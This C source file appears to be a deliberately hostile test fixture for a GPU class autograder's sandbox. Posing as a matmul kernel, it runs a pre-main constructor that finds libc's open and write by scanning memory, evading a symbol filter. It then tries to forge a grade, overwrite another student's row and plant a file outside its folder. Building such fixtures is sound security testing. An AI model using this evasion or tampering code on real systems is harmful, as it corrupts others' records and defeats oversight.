/*
 * An attack, not a kernel: a kernel.cu whose host code, before main, tries
 * to reach out of its run in a class (make class grades each student in
 * OUT/work/NAME, two folders below the class's own): append to the
 * gradebook, overwrite another student's row, leave a file in the class
 * folder. It names no forbidden symbol: libc's `open` and `write` are
 * looked up in memory from the constructor's return address. Confined, every
 * attempt is refused, and the stage scores 0 (matmul does nothing).
 *
 *   tests/class/run.sh       (on a GPU: a real class with this student in it)
 *   tests/grader/gpu-fixtures.sh (graded by the judge: 0 points)
 */
#include <elf.h>
#include <fcntl.h>
#include <link.h>
#include <stdint.h>

#include "matmul.h"

static int same(const char *a, const char *b)
{
    while (*a && *a == *b)
        a++, b++;
    return *a == *b;
}

/* A function of the library that contains `inside`, by name. */
static void *library_function(const void *inside, const char *name)
{
    uintptr_t p = (uintptr_t)inside & ~(uintptr_t)0xfff;
    for (;;) {
        const unsigned char *h = (const unsigned char *)p;
        if (h[0] == 0x7f && h[1] == 'E' && h[2] == 'L' && h[3] == 'F')
            break;
        p -= 0x1000;
    }
    const ElfW(Ehdr) *eh = (const ElfW(Ehdr) *)p;
    const ElfW(Phdr) *ph = (const ElfW(Phdr) *)(p + eh->e_phoff);
    const ElfW(Dyn) *dyn = NULL;
    for (int i = 0; i < eh->e_phnum; i++)
        if (ph[i].p_type == PT_DYNAMIC)
            dyn = (const ElfW(Dyn) *)(p + ph[i].p_vaddr);
    const ElfW(Sym) *sym = NULL;
    const char *str = NULL;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        uintptr_t v = dyn->d_un.d_ptr < p ? p + dyn->d_un.d_ptr : dyn->d_un.d_ptr;
        if (dyn->d_tag == DT_SYMTAB)
            sym = (const ElfW(Sym) *)v;
        if (dyn->d_tag == DT_STRTAB)
            str = (const char *)v;
    }
    for (; sym && (const char *)sym < str; sym++)
        if (sym->st_name && sym->st_value && same(str + sym->st_name, name))
            return (void *)(p + sym->st_value);
    return NULL;
}

__attribute__((constructor)) static void reach_out(void)
{
    typedef int (*open_fn)(const char *, int, ...);
    typedef long (*write_fn)(int, const void *, unsigned long);
    const void *libc = __builtin_return_address(0);
    open_fn o = (open_fn)library_function(libc, "open");
    write_fn w = (write_fn)library_function(libc, "write");
    if (!o || !w)
        return;
    int fd = o("../../gradebook.csv", O_WRONLY | O_APPEND);
    if (fd >= 0)
        w(fd, "mallory,10,10,20,20,graded,0,\n", 30);
    fd = o("../../students/alice/row.csv", O_WRONLY | O_TRUNC);
    if (fd >= 0)
        w(fd, "alice,0,0,0,20,graded,0,\n", 25);
    fd = o("../../planted-by-a-student", O_WRONLY | O_CREAT, 0644);
    if (fd >= 0)
        w(fd, "x\n", 2);
}

void matmul(const float *A, const float *B, float *C, int n)
{
    (void)A, (void)B, (void)C, (void)n;
}
